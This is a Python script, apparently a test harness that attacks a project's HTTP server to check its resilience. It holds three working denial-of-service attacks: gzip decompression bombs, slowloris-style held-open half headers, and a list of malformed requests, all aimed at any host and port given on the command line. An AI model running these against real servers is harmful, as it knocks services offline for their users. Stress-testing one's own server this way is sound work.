"""One attack on an HTTP port by somebody without a token, as a process that ends by itself.

`python attacker.py KIND HOST PORT SECONDS` writes what it did as JSON. It imports nothing of the project.
"""

import gzip
import json
import selectors
import socket
import sys
import time
from collections.abc import Callable, Mapping
from contextlib import suppress

_HALF_HEADS = 4_000
_NEW_HEADS_A_ROUND = 100
_NEW_HEADS_RPS = 200
_MALFORMED_RPS = 100
"""Once all half heads were opened, and of the malformed requests: else the table of connections of the
machine's own firewall is full, and packets of everybody are dropped."""
_SOURCES = 8
"""Half heads come from so many addresses of the loopback."""
_UNPACKED_MB = 1024
_GIVES_UP_S = 5.0
_PAUSE_S = 0.02
_HALF_HEAD = b"GET /api/runs HTTP/1.1\r\nHost: x\r\nX-Slow: "
_MALFORMED = (
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET / HTTP/1.1\r\nbad header\r\n\r\n",
    b"POST /api/runs HTTP/1.1\r\nHost: x\r\nContent-Length: x\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64),
    b"GET " + b"/" * 70_000,
)


def send_packed(address: tuple[str, int], until: float) -> dict[str, int]:
    """Bodies of 1 MB that unpack to 1 GiB."""
    member = gzip.compress(bytes(1 << 20), 9)
    body = member * _UNPACKED_MB
    head = b"POST /api/runs HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    done = {"sent": 0, "broken_off": 0}
    while time.monotonic() < until:
        try:
            with socket.create_connection(address, _GIVES_UP_S) as connection:
                connection.sendall(head % len(body) + body)
                connection.recv(4096)
            done["sent"] += 1
        except OSError:
            done["broken_off"] += 1
        time.sleep(_PAUSE_S)
    return done


def hold_half_heads(address: tuple[str, int], until: float) -> dict[str, int]:
    """Connections with half a head each, as many as are let in; those that are closed are made anew."""
    done = {"opened": 0, "closed": 0, "most_open": 0}
    number, began = 0, time.monotonic()
    with selectors.DefaultSelector() as selector:
        while time.monotonic() < until:
            allowed = _HALF_HEADS + int(_NEW_HEADS_RPS * (time.monotonic() - began)) - number
            wanted = _HALF_HEADS - len(selector.get_map())
            for _ in range(min(_NEW_HEADS_A_ROUND, wanted, allowed)):
                number += 1
                with suppress(OSError):
                    source = (f"127.0.0.{1 + number % _SOURCES}", 0)
                    connection = socket.create_connection(address, _GIVES_UP_S, source)
                    connection.sendall(_HALF_HEAD)
                    selector.register(connection, selectors.EVENT_READ)
                    done["opened"] += 1
            done["most_open"] = max(done["most_open"], len(selector.get_map()))
            for key, _ in selector.select(_PAUSE_S):
                assert isinstance(key.fileobj, socket.socket)
                selector.unregister(key.fileobj)
                key.fileobj.close()
                done["closed"] += 1
    return done


def send_malformed(address: tuple[str, int], until: float) -> dict[str, int]:
    """Requests that cannot be read, one after the other."""
    done = {"sent": 0, "answered": 0}
    while time.monotonic() < until:
        for request in _MALFORMED:
            with suppress(OSError), socket.create_connection(address, _GIVES_UP_S) as connection:
                connection.sendall(request)
                done["sent"] += 1
                done["answered"] += bool(connection.recv(4096))
            time.sleep(1 / _MALFORMED_RPS)
    return done


ATTACKS: Mapping[str, Callable[[tuple[str, int], float], dict[str, int]]] = {
    "packed": send_packed,
    "half-heads": hold_half_heads,
    "malformed": send_malformed,
}


if __name__ == "__main__":
    kind, host, port, seconds = sys.argv[1:]
    sys.stdout.write(json.dumps(ATTACKS[kind]((host, int(port)), time.monotonic() + float(seconds))))
